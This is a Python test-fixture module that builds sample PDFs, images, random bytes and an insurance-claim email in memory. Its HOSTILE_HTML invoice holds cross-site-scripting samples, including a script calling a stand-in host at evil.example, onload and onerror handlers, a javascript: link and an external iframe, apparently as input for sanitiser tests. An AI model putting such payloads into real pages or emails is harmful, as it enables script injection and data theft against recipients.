"""Small documents of every supported type, built in memory for tests."""

from __future__ import annotations

import datetime as dt
import io
import random
from email.message import EmailMessage

from fpdf import FPDF
from PIL import Image

# fpdf2 draws in points on an A4 page, so positions can be checked against the char boxes.
A4_POINTS = (595.28, 841.89)
WORD_ON_PAGE_2 = "Windscreen"
WORD_AT = (144.0, 300.0)  # left, baseline in points from the top-left corner
WORD_SIZE = 20
FIXED_DATE = dt.datetime(2024, 3, 4, 9, 30, tzinfo=dt.UTC)


def word_width() -> float:
    """WORD_ON_PAGE_2's advance in points, as fpdf2 lays it out."""
    pdf = FPDF(unit="pt")
    pdf.set_font("helvetica", size=WORD_SIZE)
    return pdf.get_string_width(WORD_ON_PAGE_2)


def page_texts(count: int) -> list[str]:
    return [f"Claim form page {n} of {count}" for n in range(1, count + 1)]


def pdf_bytes(pages: int = 3, *, password: str | None = None) -> bytes:
    """An A4 PDF: each page's text at the top; page 2 also holds WORD_ON_PAGE_2 at WORD_AT."""
    pdf = FPDF(format="A4", unit="pt")
    pdf.set_creation_date(FIXED_DATE)  # else the bytes, and so the sha256, change every second
    pdf.set_font("helvetica", size=12)
    for number, text in enumerate(page_texts(pages), 1):
        pdf.add_page()
        pdf.text(72, 72, text)
        if number == 2:
            pdf.set_font_size(WORD_SIZE)
            pdf.text(*WORD_AT, WORD_ON_PAGE_2)
            pdf.set_font_size(12)
    if password:
        pdf.set_encryption(owner_password="owner-" + password, user_password=password)
    return bytes(pdf.output())


def image_bytes(fmt: str = "PNG", size: tuple[int, int] = (120, 80), frames: int = 1) -> bytes:
    colours = ["white", "navy", "orange"]
    images = [Image.new("RGB", size, colours[n % len(colours)]) for n in range(frames)]
    buffer = io.BytesIO()
    images[0].save(buffer, fmt, save_all=frames > 1, append_images=images[1:])
    return buffer.getvalue()


def random_bytes(size: int = 4096) -> bytes:
    return random.Random(4).randbytes(size)


HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>Invoice</title><style>body { color: red }</style>
<script>fetch("https://evil.example/steal")</script></head>
<body onload="steal()">
<h1>Invoice INV-2024-0042</h1>
<p>Total due: <b>EUR 1,250.00</b></p>
<p><img src="https://tracker.example/pixel.png" onerror="alert(1)" alt="logo">
<a href="javascript:alert(2)">pay now</a> <a href="https://example.com/terms">terms</a>
<a href="/accounts/logout/">log out</a></p>
<iframe src="https://evil.example/frame">frame text</iframe>
<table><tr><td>Item</td><td>Amount</td></tr><tr><td>Repair</td><td>1,250.00</td></tr></table>
</body></html>
"""


def email_bytes(*, html: str | None = HOSTILE_HTML, attachment: bool = True) -> bytes:
    message = EmailMessage()
    message["From"] = "Claims Desk <claims@insurer.example>"
    message["To"] = "adjuster@insurer.example"
    message["Subject"] = "Claim PN-4471-0923: repair invoice"
    message["Date"] = "Mon, 04 Mar 2024 09:30:00 +0100"
    message.set_content("Total due: EUR 1,250.00 (plain part)")
    if html is not None:
        message.add_alternative(html, subtype="html")
    if attachment:
        message.add_attachment(
            pdf_bytes(1), maintype="application", subtype="pdf", filename="invoice.pdf"
        )
    return message.as_bytes()
